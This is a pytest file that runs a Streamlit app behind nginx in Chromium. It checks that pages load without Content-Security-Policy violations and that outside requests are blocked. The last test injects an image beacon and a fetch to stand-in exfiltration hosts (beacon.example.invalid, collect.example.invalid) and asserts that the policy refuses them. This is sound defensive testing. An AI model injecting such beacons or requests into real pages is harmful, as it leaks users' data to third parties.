"""The real page in Chromium through the operator's nginx configuration: the sign-in page, a
sign-in and an app page load with no Content-Security-Policy violation, and an image or request
to another site put into the page is blocked.

The app is set up as the demo sets itself up (seeded database, local sign-in provider,
Streamlit with the package's settings), except that its sign-in returns to the proxy's https
address, so the sign-in cookie belongs to the proxy's origin as it will in production.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import os
import signal
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from closure_readiness.demo.launcher import sign_in_provider, streamlit_command, write_secrets
from closure_readiness.demo.seed import seed
from proxy_support import Proxy, free_port, running_proxy

REPO_ROOT = Path(__file__).resolve().parents[2]
START_DEADLINE = 90.0
IDLE = '[data-test-script-state="notRunning"]'
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
    window.__violations.push(
        `${event.violatedDirective} blocked ${event.blockedURI} (${event.sourceFile})`);
});
"""


@dataclass
class Proxied:
    proxy: Proxy
    provider_url: str
    ids: dict[str, int]


def _healthy(url: str) -> bool:
    try:
        with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as response:
            return bool(response.status == 200)
    except (urllib.error.URLError, ConnectionError, TimeoutError):
        return False


@pytest.fixture(scope="module")
def proxied(tmp_path_factory: pytest.TempPathFactory, chromium_path: Path) -> Iterator[Proxied]:
    """nginx on the operator's configuration in front of the app, whose sign-in returns to
    nginx's https address; the local sign-in provider in this process."""
    directory = tmp_path_factory.mktemp("proxied")
    app_port, provider_port = free_port(), free_port()
    with (
        running_proxy(directory / "nginx", app_port) as proxy,
        sign_in_provider(provider_port) as issuer,
    ):
        db = directory / "demo.db"
        ids = seed(db, issuer=issuer, today=dt.datetime.now(dt.UTC).date())
        secrets_file = write_secrets(directory / "secrets.toml", app_url=proxy.url, issuer=issuer)
        environment = {
            **os.environ,
            "CLOSURE_DB": str(db),
            "CLOSURE_ENVIRONMENT": "test",
            "CLOSURE_DEMO_SIGN_IN": "true",
        }
        log = directory / "streamlit.log"
        with log.open("wb") as output:
            process = subprocess.Popen(
                streamlit_command(port=app_port, secrets_file=secrets_file),
                cwd=REPO_ROOT,
                env=environment,
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        try:
            deadline = time.monotonic() + START_DEADLINE
            while not _healthy(f"http://127.0.0.1:{app_port}"):
                if process.poll() is not None or time.monotonic() > deadline:
                    pytest.fail(f"The app did not start:\n{log.read_text(errors='replace')}")
                time.sleep(0.2)  # polling interval while Streamlit starts
            yield Proxied(proxy=proxy, provider_url=issuer, ids=ids)
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGTERM)
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait(timeout=10)


@pytest.fixture
def proxied_page(browser: Any, proxied: Proxied) -> Iterator[Any]:
    """A fresh profile that trusts the test's certificate and records policy violations,
    console errors and server errors."""
    context = browser.new_context(
        ignore_https_errors=True, viewport={"width": 1400, "height": 1000}
    )
    context.set_default_timeout(30_000)
    context.add_init_script(RECORD_VIOLATIONS)
    opened = context.new_page()
    errors: list[str] = []
    opened.on(
        "console", lambda message: errors.append(message.text) if message.type == "error" else None
    )
    opened.console_errors = errors
    failed: list[str] = []
    opened.on(
        "response", lambda answer: failed.append(answer.url) if answer.status >= 500 else None
    )
    opened.server_errors = failed
    yield opened
    context.close()


def _settled(page: Any) -> None:
    page.wait_for_selector(IDLE, state="attached")
    page.wait_for_function(
        """() => {
            const root = document.querySelector('[data-test-script-state]');
            return root && root.dataset.testScriptState === 'notRunning'
                && !document.querySelector('[data-stale="true"]');
        }"""
    )


def _violations(page: Any) -> list[str]:
    return list(page.evaluate("window.__violations"))


def test_the_pages_load_through_the_proxy_with_no_policy_violation(
    proxied_page: Any, proxied: Proxied
) -> None:
    page, url = proxied_page, proxied.proxy.url
    answer = page.goto(url)
    assert "default-src 'none'" in answer.headers["content-security-policy"]  # under the policy
    _settled(page)
    sign_in = page.get_by_role("button", name="Sign in")
    sign_in.wait_for()
    assert _violations(page) == []

    sign_in.click()
    page.wait_for_url(f"{proxied.provider_url}/**")
    page.get_by_role("button", name="caseworker", exact=True).click()
    page.wait_for_url(f"{url}/**")
    _settled(page)
    assert page.get_by_role("button", name="Sign in").count() == 0  # signed in via the proxy
    assert _violations(page) == []

    page.goto(f"{url}/review?review={proxied.ids['draft_new']}&step=cause")
    _settled(page)
    page.get_by_role("heading").first.wait_for()
    assert _violations(page) == []
    # Streamlit's own start-up asks /review/_stcore/health (404) before /_stcore/health; any
    # other error in the console would be the policy or the proxy.
    assert [e for e in page.console_errors if "Content Security Policy" in e] == []
    assert page.server_errors == []


def test_an_image_or_request_to_another_site_is_blocked(
    proxied_page: Any, proxied: Proxied
) -> None:
    """What a stored-text slip would do (an image beacon, a script's request) is refused by the
    policy: the browser reports the violation and never sends the request."""
    page = proxied_page
    sent: list[str] = []
    refused: list[str] = []
    page.on("requestfinished", lambda request: sent.append(request.url))
    page.on("requestfailed", lambda request: refused.append(f"{request.url} {request.failure}"))
    page.goto(proxied.proxy.url)
    _settled(page)

    page.evaluate(
        """() => new Promise((resolve) => {
            const image = document.createElement('img');
            image.onerror = resolve;
            image.src = 'https://beacon.example.invalid/pixel.png?case=CR-0001';
            document.body.appendChild(image);
        })"""
    )
    fetched: str = page.evaluate(
        """() => fetch('https://collect.example.invalid/').then(() => 'sent', () => 'refused')"""
    )

    violations = _violations(page)
    assert any(v.startswith("img-src blocked https://beacon.example.invalid") for v in violations)
    assert any(
        v.startswith("connect-src blocked https://collect.example.invalid") for v in violations
    )
    assert fetched == "refused"
    assert [url for url in sent if "invalid" in url] == []
    assert "https://beacon.example.invalid/pixel.png?case=CR-0001 csp" in refused
